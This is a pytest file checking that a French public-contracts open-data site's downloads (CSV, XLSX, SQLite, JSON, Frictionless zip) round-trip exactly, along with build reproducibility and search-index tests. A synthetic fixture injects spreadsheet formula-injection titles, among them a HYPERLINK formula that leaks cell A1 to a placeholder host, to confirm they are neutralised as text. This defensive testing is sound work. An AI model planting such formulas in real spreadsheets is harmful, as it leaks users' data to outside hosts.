"""Every file the built site offers for download, read back with independent readers, equals the published tables.

For the real catalogue and a small synthetic one (with hostile titles), this reads what the site build wrote under
site/telechargements/ — never the writers' helper functions — with pandas (spreadsheet CSV), openpyxl (XLSX),
sqlite3 (database), json (gzip JSON) and frictionless (package zip; a contract's package references the shared Table
Schemas by address: the synthetic site is served at its own address so that frictionless fetches them over HTTP),
and compares each table, row count and every cell after type normalisation, with the Frictionless CSV of
datapackages/ read by the csv module.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import math
import re
import sqlite3
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import yaml
from frictionless import Package as FrictionlessPackage

from contrats import paths
from contrats.cli import main as cli_main
from sitekit import _free_port, _QuietHandler, build_into, built_site

ROOT = Path(__file__).resolve().parents[1]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # as the methodology page states it
HOSTILE_DOCUMENT_TITLE = '=HYPERLINK("https://exemple.invalid/?x="&A1;"Cliquer ici")'
HOSTILE_OPERATION_TITLE = "-2+3 aménagement"
HOSTILE_PARTY_NAME = "@SOMME(1;2)"
SPREADSHEET_FORMATS = ("csv", "xlsx")
CONTRACT_FORMATS = {"zip", "xlsx"}  # the catalogue has the others (data page)
CATALOGUE_FORMATS = CONTRACT_FORMATS | {"csv", "json", "sqlite"}


# --- What the tables should hold: the Frictionless CSV of datapackages/, read by the csv module -------------------

@dataclass
class Expected:
    """One published table: field names, titles and types, and its rows as strings (as the Frictionless CSV has them)."""

    name: str
    fields: list[dict]
    rows: list[dict[str, str]]

    @property
    def names(self) -> list[str]:
        return [f["name"] for f in self.fields]

    @property
    def kinds(self) -> list[str]:
        return [f.get("type", "string") for f in self.fields]


def expected_tables(folder: Path) -> dict[str, Expected]:
    """The tabular resources of a published package, in descriptor order."""
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    out = {}
    for r in descriptor["resources"]:
        if r.get("format") == "csv" and "schema" in r:
            with (folder / r["path"]).open(encoding="utf-8", newline="") as fh:
                out[r["name"]] = Expected(r["name"], r["schema"]["fields"], list(csv.DictReader(fh)))
    return out


def norm(value: Any, kind: str) -> Any:
    """A cell as a comparable value, whatever reader produced it (None for empty)."""
    if value is None or value == "" or (isinstance(value, float) and math.isnan(value)):
        return None
    if kind == "boolean":
        if isinstance(value, str):
            return {"true": True, "false": False, "oui": True, "non": False}[value]
        return bool(value)
    if kind == "integer":
        if isinstance(value, float):
            assert value.is_integer(), value
        return int(value)
    if kind == "number":
        return float(value) if not isinstance(value, str) else float(value)
    if kind == "date":
        if isinstance(value, datetime):
            return value.date().isoformat()
        if isinstance(value, date):
            return value.isoformat()
    if isinstance(value, (Decimal, float)) and kind == "string":
        raise AssertionError(f"texte lu comme nombre : {value!r}")
    return str(value)


def compare(where: str, table: Expected, got_rows: list[list[Any]]) -> None:
    """Row count, then every cell (normalised) of `got_rows` against the published table."""
    assert len(got_rows) == len(table.rows), f"{where} : {len(got_rows)} lignes au lieu de {len(table.rows)}"
    kinds = table.kinds
    for i, (want, got) in enumerate(zip(table.rows, got_rows), start=1):
        assert len(got) == len(table.names), f"{where} ligne {i} : {len(got)} colonnes au lieu de {len(table.names)}"
        for name, kind, value in zip(table.names, kinds, got):
            a, b = norm(want[name], kind), norm(value, kind)
            assert a == b, f"{where} ligne {i}, colonne {name} : {b!r} au lieu de {a!r}"


def undo_neutralising(text: Any) -> Any:
    """The methodology's rule, undone: one leading apostrophe goes when what follows the apostrophes is a formula."""
    if isinstance(text, str) and text.startswith("'") and text.lstrip("'")[:1] in FORMULA_START \
            and text.lstrip("'") != "":
        return text[1:]
    return text


# --- Readers, one per format -----------------------------------------------------------------------------------

def read_csv_zip(path: Path, tables: dict[str, Expected]) -> None:
    """pandas, as a data user opens a French spreadsheet CSV: sep=';', utf-8-sig, decimal comma."""
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        members = {n.rsplit("/", 1)[-1][:-4]: n for n in zf.namelist() if n.endswith(".csv")}
        assert list(members) == list(tables), f"{path.name} : tables {list(members)}"
        for name, table in tables.items():
            raw = zf.read(members[name])
            assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}/{name} : BOM attendu"
            text_cols = {f["name"]: str for f in table.fields if f.get("type", "string") not in ("integer", "number")}
            df = pd.read_csv(io.BytesIO(raw), sep=";", encoding="utf-8-sig", decimal=",", dtype=text_cols,
                             keep_default_na=False, na_values={c: [""] for c in table.names})
            assert list(df.columns) == table.names, f"{path.name}/{name} : en-tête {list(df.columns)}"
            rows = []
            for rec in df.itertuples(index=False, name=None):
                row = []
                for value, kind in zip(rec, table.kinds):
                    if kind == "string" and isinstance(value, str):
                        assert not value.startswith(FORMULA_START), f"{path.name}/{name} : formule non protégée {value!r}"
                        value = undo_neutralising(value)
                    row.append(value)
                rows.append(row)
            compare(f"{path.name}/{name}", table, rows)


def read_xlsx(path: Path, tables: dict[str, Expected], shared_dictionary: str | None = None) -> None:
    """openpyxl: « À propos », one sheet per table with French titles, frozen header, typed cells, then the
    dictionary (or, with `shared_dictionary`, its address in « À propos »); a text that would run as a formula is a
    text cell marked with Excel's quote prefix."""
    wb = openpyxl.load_workbook(path)
    dictionary = [] if shared_dictionary else ["Dictionnaire"]
    assert wb.sheetnames == ["À propos", *tables, *dictionary], wb.sheetnames
    about = {r[0]: r[1] for r in wb["À propos"].iter_rows(min_row=2, values_only=True)}
    for key in ("Source", "Licence", "Date des données", "Comment citer"):
        assert about.get(key), f"{path.name} : « {key} » absent de « À propos »"
    if shared_dictionary:
        assert about.get("Dictionnaire") == shared_dictionary, f"{path.name} : adresse du dictionnaire"
    assert "Licence Ouverte" in about["Licence"]
    for name, table in tables.items():
        ws = wb[name]
        assert ws.freeze_panes == "A2", f"{path.name}/{name} : en-tête non figé"
        header = [c.value for c in next(ws.iter_rows(max_row=1))]
        assert header == [f.get("title") or f["name"] for f in table.fields], f"{path.name}/{name} : {header}"
        assert all(ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width >= 8
                   for i in range(len(header))), f"{path.name}/{name} : largeurs de colonnes absentes"
        rows = []
        for cells in ws.iter_rows(min_row=2, max_col=len(header)):
            row = []
            for cell, kind in zip(cells, table.kinds):
                value = cell.value
                if kind in ("integer", "number") and value is not None:
                    assert cell.data_type == "n" and not isinstance(value, bool), \
                        f"{path.name}/{name} {cell.coordinate} : nombre attendu, lu {value!r}"
                if kind == "date" and value is not None:
                    assert isinstance(value, datetime), f"{path.name}/{name} {cell.coordinate} : date attendue"
                if kind == "boolean" and value is not None:
                    assert isinstance(value, bool), f"{path.name}/{name} {cell.coordinate} : booléen attendu"
                if isinstance(value, str) and value.startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, \
                        f"{path.name}/{name} {cell.coordinate} : formule non protégée {value!r}"
                row.append(value)
            rows.append(row)
        compare(f"{path.name}/{name}", table, rows)
    if not shared_dictionary:
        words = list(wb["Dictionnaire"].iter_rows(min_row=2, values_only=True))
        assert [(r[0], r[2]) for r in words] == [(n, f["name"]) for n, t in tables.items() for f in t.fields]


def read_sqlite(path: Path, tables: dict[str, Expected], tmp: Path) -> None:
    """sqlite3 on the gunzipped database: every table, in insertion order, with the dictionary."""
    db = tmp / (path.name[:-3])
    db.write_bytes(gzip.decompress(path.read_bytes()))
    con = sqlite3.connect(db)
    try:
        for name, table in tables.items():
            cur = con.execute(f'SELECT * FROM "{name}" ORDER BY rowid')
            assert [d[0] for d in cur.description] == table.names, f"{path.name}/{name}"
            compare(f"{path.name}/{name}", table, [list(r) for r in cur.fetchall()])
        n = con.execute("SELECT COUNT(*) FROM _dictionnaire").fetchone()[0]
        assert n == sum(len(t.fields) for t in tables.values())
    finally:
        con.close()


def read_json(path: Path, tables: dict[str, Expected]) -> None:
    """json on the gunzipped document: every table a list of records keyed by field name."""
    data = json.loads(gzip.decompress(path.read_bytes()))
    assert list(data["tables"]) == list(tables), f"{path.name} : {list(data['tables'])}"
    for name, table in tables.items():
        records = data["tables"][name]
        assert all(list(r) == table.names for r in records), f"{path.name}/{name} : clés"
        compare(f"{path.name}/{name}", table, [list(r.values()) for r in records])


def read_package_zip(path: Path, folder: Path, tables: dict[str, Expected], tmp: Path,
                     schemas: dict[str, Path] | None = None, served: bool = False) -> None:
    """frictionless on the extracted package; the zip holds the published folder byte for byte, except that a
    contract's datapackage.json references each Table Schema by the address of a shared file (`schemas`: address →
    published file), which holds exactly the published schema. When the site is served at its address, frictionless
    fetches the schemas itself; otherwise the test puts each published schema file beside the descriptor."""
    descriptor_name = f"{folder.name}/datapackage.json"
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        names = sorted(n for n in zf.namelist() if not n.endswith("/"))
        published = sorted(f"{folder.name}/{p.relative_to(folder).as_posix()}" for p in folder.rglob("*") if p.is_file())
        assert names == published, f"{path.name} : fichiers {set(names) ^ set(published)}"
        for n in names:
            if n != descriptor_name or schemas is None:
                assert zf.read(n) == (folder.parent / n).read_bytes(), f"{path.name} : {n} diffère du paquet publié"
        zf.extractall(tmp)
    if schemas is not None:
        got = json.loads((tmp / descriptor_name).read_text(encoding="utf-8"))
        want = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
        refs = {r["name"]: r["schema"] for r in got["resources"] if isinstance(r.get("schema"), str)}
        assert set(refs) == set(tables), f"{path.name} : schémas par adresse {sorted(refs)}"
        for r in got["resources"]:
            if r["name"] in refs:
                assert refs[r["name"]] in schemas, f"{path.name} : {refs[r['name']]} n’est pas un fichier publié"
                shared_file = schemas[refs[r["name"]]]
                r["schema"] = json.loads(shared_file.read_text(encoding="utf-8"))
                if not served:  # offline: the published schema file, beside the descriptor
                    local = tmp / folder.name / "schemas" / shared_file.name
                    local.parent.mkdir(exist_ok=True)
                    local.write_bytes(shared_file.read_bytes())
        assert got == want, f"{path.name} : datapackage.json diffère du paquet publié hors références aux schémas"
        if not served:
            d = json.loads((tmp / descriptor_name).read_text(encoding="utf-8"))
            for r in d["resources"]:
                if r["name"] in refs:
                    r["schema"] = "schemas/" + schemas[refs[r["name"]]].name
            (tmp / descriptor_name).write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    package = FrictionlessPackage(str(tmp / descriptor_name))
    for name, table in tables.items():
        resource = package.get_resource(name)
        rows = [[r[n] for n in table.names] for r in resource.read_rows()]
        compare(f"{path.name}/{name}", table, rows)


# --- The whole site ----------------------------------------------------------------------------------------------

def check_site_downloads(site: Path, datapackages: Path, tmp: Path, served: bool = False) -> dict[str, set[str]]:
    """Check every download listed by telechargements/index.json against datapackages/; return formats per package.

    Also: the index lists every file of telechargements/ (and nothing else), with its exact size and SHA-256; the
    shared Table Schemas are exactly the catalogue's; a contract's files reference them and the shared dictionary."""
    root = site / "telechargements"
    index = json.loads((root / "index.json").read_text(encoding="utf-8"))
    listed: list[str] = []
    formats: dict[str, set[str]] = {}
    schema_entry = next(e for e in index["paquets"] if e["paquet"] == "schemas")
    schemas = {index["adresse"] + f["chemin"]: root / f["chemin"] for f in schema_entry["fichiers"]}
    catalogue = json.loads((datapackages / "catalogue" / "datapackage.json").read_text(encoding="utf-8"))
    assert {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in schemas.values()} == \
        {r["name"]: r["schema"] for r in catalogue["resources"] if isinstance(r.get("schema"), dict)}
    dictionary = index["adresse"].removesuffix("telechargements/") + "donnees/#dictionnaire"
    for entry in index["paquets"]:
        key = entry["paquet"]
        folder = datapackages / entry["dossier"].rstrip("/") if key not in ("documents", "schemas") else None
        contract = entry["dossier"].startswith("contrats/")
        tables = expected_tables(folder) if folder else {}
        if tables:
            assert entry["tables"] == {n: len(t.rows) for n, t in tables.items()}, f"index : lignes de {key}"
        formats[key] = set()
        for f in entry["fichiers"]:
            path = root / f["chemin"]
            body = path.read_bytes()
            listed.append(f["chemin"])
            assert len(body) == f["taille_octets"], f"index : taille de {f['chemin']}"
            assert hashlib.sha256(body).hexdigest() == f["sha256"], f"index : SHA-256 de {f['chemin']}"
            assert f["format"] in index["formats"]
            formats[key].add(f["format"])
            work = tmp / f["chemin"].replace("/", "_")
            work.mkdir(parents=True)
            if f["format"] == "csv":
                read_csv_zip(path, tables)
            elif f["format"] == "xlsx":
                read_xlsx(path, tables, dictionary if contract else None)
            elif f["format"] == "sqlite":
                read_sqlite(path, tables, work)
            elif f["format"] == "json":
                read_json(path, tables)
            elif f["format"] == "zip":
                read_package_zip(path, folder, tables, work, schemas if contract else None, served)
            elif f["format"] == "schema":
                from frictionless import Schema
                assert Schema(str(path)).field_names, f["chemin"]
            elif f["format"] == "txt":
                assert body == (datapackages / "catalogue" / "documents" / path.name).read_bytes(), f["chemin"]
            else:
                pytest.fail(f"format inconnu dans l’index : {f['format']}")
    on_disk = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() and p.name != "index.json")
    assert sorted(listed) == on_disk, f"fichiers hors index ou absents : {set(listed) ^ set(on_disk)}"
    contracts = {p.name for p in (datapackages / "contrats").iterdir() if (p / "datapackage.json").exists()}
    assert {k for k in formats if k not in ("catalogue", "reference", "documents", "schemas")} == contracts
    assert formats["catalogue"] == CATALOGUE_FORMATS
    assert all(formats[c] == CONTRACT_FORMATS for c in contracts)
    return formats


def test_every_download_of_the_real_site_round_trips(tmp_path: Path):
    """Catalogue, reference, every contract and every document text of the site built from datapackages/."""
    check_site_downloads(built_site(), paths.DATAPACKAGES, tmp_path)


NPDC = "cper-nord-pas-de-calais-2015-2020"


def test_npdc_spreadsheets_open_with_every_row(tmp_path: Path):
    """The NPdC CPER's package CSV (pandas) and XLSX hold as many rows per table as datapackages/contrats/<id>/*.csv."""
    folder = paths.DATAPACKAGES / "contrats" / NPDC
    if not folder.is_dir():
        pytest.skip(f"{NPDC} absent de datapackages/")
    counts = {}
    for f in sorted(folder.glob("*.csv")):
        with f.open(encoding="utf-8", newline="") as fh:
            counts[f.stem] = sum(1 for _ in csv.DictReader(fh))
    assert sum(counts.values()) > 100
    downloads = built_site() / "telechargements" / "contrats" / NPDC
    with zipfile.ZipFile(downloads / f"{NPDC}-paquet.zip") as zf:
        got = {n.rsplit("/", 1)[-1][:-4]: len(pd.read_csv(io.BytesIO(zf.read(n)), dtype=str))
               for n in zf.namelist() if n.endswith(".csv")}
    assert got == counts
    wb = openpyxl.load_workbook(downloads / f"{NPDC}.xlsx", read_only=True)
    assert {n: wb[n].max_row - 1 for n in counts} == counts


# --- A small synthetic catalogue with hostile titles -------------------------------------------------------------

SYNTHETIC_URL: list[str] = []  # the address the synthetic site is built for, and served at


@pytest.fixture(scope="module")
def synthetic_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """Three synthetic contracts (scripts/synth.py) whose document title, operation title and party name would run
    as formulas in a spreadsheet; built into a site for a local address where it is then served (frictionless
    fetches the shared schemas from there). Returns (site, datapackages)."""
    sys.path.insert(0, str(ROOT / "scripts"))
    try:
        from synth import write_corpus
    finally:
        sys.path.remove(str(ROOT / "scripts"))
    out = tmp_path_factory.mktemp("synthetique")
    src = write_corpus(out, 3, seed=11)
    first = sorted((src / "contrats").glob("*.yml"))[0]
    data = yaml.safe_load(first.read_text(encoding="utf-8"))
    data["documents"][0]["titre"] = HOSTILE_DOCUMENT_TITLE
    # An operation title is checked against its quote: the document text gets a line that states it.
    text_file = src / "documents" / data["documents"][0]["fichier"]
    text = text_file.read_text(encoding="utf-8") + f"Opération : {HOSTILE_OPERATION_TITLE}.\n"
    text_file.write_text(text, encoding="utf-8")
    data["documents"][0]["sha256"] = hashlib.sha256(text.encode("utf-8")).hexdigest()
    data["operations"][0].update(titre=HOSTILE_OPERATION_TITLE, preuve=f"Opération : {HOSTILE_OPERATION_TITLE}.")
    party = data["parties"][-1]
    party["alias"] = [party["nom"]]  # its commitment's quote still names it by its former name (checks.py)
    party["nom"] = HOSTILE_PARTY_NAME
    first.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    datapackages = out / "datapackages"
    args = ["--sources", str(src), "--root", str(out), "--datapackages", str(datapackages),
            "--report", str(out / "validation.json")]
    assert cli_main(args + ["build"]) == 0
    port = _free_port()
    SYNTHETIC_URL[:] = [f"http://127.0.0.1:{port}/"]
    site = build_into(datapackages, out / "build", SYNTHETIC_URL[0])
    from functools import partial
    from http.server import ThreadingHTTPServer
    from threading import Thread
    server = ThreadingHTTPServer(("127.0.0.1", port), partial(_QuietHandler, directory=str(site)))
    Thread(target=server.serve_forever, daemon=True).start()
    yield site, datapackages
    server.shutdown()


def test_every_download_of_a_synthetic_site_round_trips(synthetic_site: tuple[Path, Path], tmp_path: Path):
    """The same round trip on a synthetic catalogue; the hostile texts reach the tables and come back exact."""
    site, datapackages = synthetic_site
    titles = [r["titre"] for r in expected_tables(datapackages / "catalogue")["documents"].rows]
    assert HOSTILE_DOCUMENT_TITLE in titles
    check_site_downloads(site, datapackages, tmp_path, served=True)


def test_a_title_starting_with_equals_shows_as_text(synthetic_site: tuple[Path, Path]):
    """In the XLSX the cell holds the exact text, as a text cell with Excel's quote prefix; in the spreadsheet CSV
    the text is preceded by an apostrophe; the Frictionless CSV keeps it exact."""
    site, datapackages = synthetic_site
    root = site / "telechargements" / "catalogue"
    wb = openpyxl.load_workbook(root / "catalogue.xlsx")
    cell = next(c for row in wb["documents"].iter_rows(min_row=2) for c in row if c.value == HOSTILE_DOCUMENT_TITLE)
    assert cell.data_type == "s" and cell.quotePrefix
    ops = [c for row in wb["operations"].iter_rows(min_row=2) for c in row if c.value == HOSTILE_OPERATION_TITLE]
    assert ops and all(c.data_type == "s" and c.quotePrefix for c in ops)
    with zipfile.ZipFile(root / "catalogue-csv.zip") as zf:
        text = zf.read("catalogue-csv/documents.csv").decode("utf-8-sig")
        parties = zf.read("catalogue-csv/parties.csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + HOSTILE_DOCUMENT_TITLE in cells and HOSTILE_DOCUMENT_TITLE not in cells
    assert "'" + HOSTILE_PARTY_NAME in [c for row in csv.reader(io.StringIO(parties), delimiter=";") for c in row]
    with (datapackages / "catalogue" / "documents.csv").open(encoding="utf-8", newline="") as fh:
        assert HOSTILE_DOCUMENT_TITLE in [r["titre"] for r in csv.DictReader(fh)]


def test_negative_numbers_stay_numbers_and_only_text_is_neutralised(tmp_path: Path):
    """Negative integers and decimals are numbers in both spreadsheet formats; a text « -5 » or « +33 » is text."""
    from contrats.site.data import Package, Table
    from contrats.site.downloads import write_package_downloads

    fields = [{"name": "libelle", "type": "string", "title": "Libellé"},
              {"name": "solde", "type": "integer", "title": "Solde"},
              {"name": "taux", "type": "number", "title": "Taux"}]
    rows = [{"libelle": "-5", "solde": -5, "taux": -0.25}, {"libelle": "+33 1 23", "solde": -1_200_000_000,
                                                           "taux": -1e-05}, {"libelle": "'=x", "solde": 0, "taux": 2.5}]
    folder = tmp_path / "paquet"
    folder.mkdir()
    package = Package(folder, {"title": "Test"}, {"t": Table("t", {"schema": {"fields": fields}}, rows)})
    out = tmp_path / "out"
    write_package_downloads(package, out, "test", [("Source", "test")], only=SPREADSHEET_FORMATS)
    with zipfile.ZipFile(out / "test-csv.zip") as zf:
        df = pd.read_csv(io.BytesIO(zf.read("test-csv/t.csv")), sep=";", encoding="utf-8-sig", decimal=",",
                         dtype={"libelle": str})
    assert df["solde"].tolist() == [-5, -1_200_000_000, 0] and df["taux"].tolist() == [-0.25, -1e-05, 2.5]
    assert df["libelle"].tolist() == ["'-5", "'+33 1 23", "''=x"]
    assert [undo_neutralising(v) for v in df["libelle"]] == ["-5", "+33 1 23", "'=x"]
    ws = openpyxl.load_workbook(out / "test.xlsx")["t"]
    cells = list(ws.iter_rows(min_row=2))
    assert [(c[1].value, c[2].value) for c in cells] == [(-5, -0.25), (-1_200_000_000, -1e-05), (0, 2.5)]
    assert all(c[1].data_type == "n" and not c[1].quotePrefix for c in cells)
    assert [(c[0].value, c[0].quotePrefix) for c in cells] == [("-5", True), ("+33 1 23", True), ("'=x", True)]


# Files that may differ between two clean builds of the same data: only Pagefind's filter index (in every part). Pagefind 1.5 writes
# the values of each filter in hash-map order, which changes from run to run; the filter files (named by their
# content hash), and so the metadata file and pagefind-entry.json that name them, differ in bytes and names while
# holding the same filters. Everything else — pages, downloads, sitemap, the rest of the search index — is identical.
MAY_DIFFER = re.compile(r"^pagefind/(?:[a-z]+/)?(filter/[^/]+\.pf_filter|pagefind\.[a-z-]+_[0-9a-f]+\.pf_meta|pagefind-entry\.json)$")


def test_two_clean_builds_give_the_same_site(synthetic_site: tuple[Path, Path], tmp_path: Path):
    """A second clean build of the same data gives the same files, byte for byte, except Pagefind's filter index
    (same number of filter files, same decompressed sizes); the sitemap is dated by the data, not by the build."""
    site, datapackages = synthetic_site
    again = build_into(datapackages, tmp_path / "encore", SYNTHETIC_URL[0])

    def listing(root: Path) -> list[str]:
        return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())

    first, second = listing(site), listing(again)
    stable = [f for f in first if not MAY_DIFFER.match(f)]
    assert stable == [f for f in second if not MAY_DIFFER.match(f)]
    different = [f for f in stable if (site / f).read_bytes() != (again / f).read_bytes()]
    assert different == []

    def filters(root: Path, files: list[str]) -> list[int]:
        return sorted(len(gzip.decompress((root / f).read_bytes())) for f in files if f.endswith(".pf_filter"))

    assert filters(site, first) == filters(again, second)
    day = json.loads((site / "telechargements" / "index.json").read_text(encoding="utf-8"))["date_donnees"]
    lastmod = set(re.findall(r"<lastmod>([^<]+)</lastmod>", (site / "sitemap.xml").read_text(encoding="utf-8")))
    assert day and lastmod == {day}, lastmod


def test_pagefind_leaves_no_stale_file(synthetic_site: tuple[Path, Path]):
    """Rebuilding the search index in place removes the fragments of the earlier one, in every part of the index."""
    from contrats.site.build import pagefind
    from contrats.site.search import PARTS

    site, _ = synthetic_site
    stale = [site / "pagefind" / "fragment" / "perime.pf_fragment", site / "pagefind" / "ancienne-partie" / "x.pf_index"]
    stale += [site / "pagefind" / part / "fragment" / "perime.pf_fragment" for part in PARTS]
    for path in stale:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"ancien")
    pagefind(site)
    assert [p for p in stale if p.exists()] == []
    assert all((site / "pagefind" / part / "pagefind.js").exists() for part in ("", *PARTS))


def test_a_failed_index_leaves_the_earlier_one_whole(synthetic_site: tuple[Path, Path], monkeypatch, capsys):
    """When Pagefind fails on a part, `contrats index` says so (exit 1, no traceback) and the published index stays."""
    import subprocess

    from contrats.cli import main
    from contrats.site import search

    site, _ = synthetic_site
    before = sorted(p.relative_to(site).as_posix() for p in (site / "pagefind").rglob("*"))
    real = search._pagefind

    def failing(site_: Path, glob: str, subdir: str) -> None:
        if subdir.endswith("/documents"):
            raise subprocess.CalledProcessError(1, ["pagefind"])
        real(site_, glob, subdir)

    monkeypatch.setattr(search, "_pagefind", failing)
    assert main(["index", "--site", str(site)]) == 1
    assert "[pagefind]" in capsys.readouterr().err
    assert sorted(p.relative_to(site).as_posix() for p in (site / "pagefind").rglob("*")) == before
    assert not (site / ".pagefind-nouveau").exists()
